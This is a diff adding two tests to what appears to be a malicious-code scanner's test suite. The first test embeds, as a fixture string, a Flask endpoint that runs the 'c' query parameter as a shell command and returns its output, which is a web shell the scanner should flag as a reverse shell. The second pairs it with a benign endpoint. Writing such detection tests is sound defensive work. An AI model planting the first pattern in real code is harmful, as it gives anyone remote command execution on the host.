@@ -890,3 +890,36 @@ def test_a_visible_powershell_command_run_on_request_is_not_flagged() -> None:
     """
     result = scan({"demo/win.py": src})
     assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_web_endpoint_running_the_request_as_a_shell_command_is_remote_control() -> None:
+    src = """
+        import subprocess
+        from flask import Flask, request
+
+        app = Flask(__name__)
+
+        @app.route("/x")
+        def run():
+            p = subprocess.Popen(request.args.get("c"), shell=True, stdout=subprocess.PIPE)
+            return p.stdout.read()
+
+        app.run(host="0.0.0.0", port=54689)
+    """
+    assert "intent.reverse-shell" in rules(scan({"demo/__init__.py": src}), "high")
+
+
+def test_a_web_endpoint_using_request_data_for_its_own_work_is_not_flagged() -> None:
+    src = """
+        import subprocess
+        from flask import Flask, request
+
+        app = Flask(__name__)
+
+        @app.route("/version")
+        def version():
+            fmt = request.args.get("format", "short")
+            out = subprocess.run(["git", "describe", "--tags"], capture_output=True, text=True)
+            return {"version": out.stdout.strip(), "format": fmt}
+    """
+    assert "intent.reverse-shell" not in rules(scan({"demo/web.py": src}))
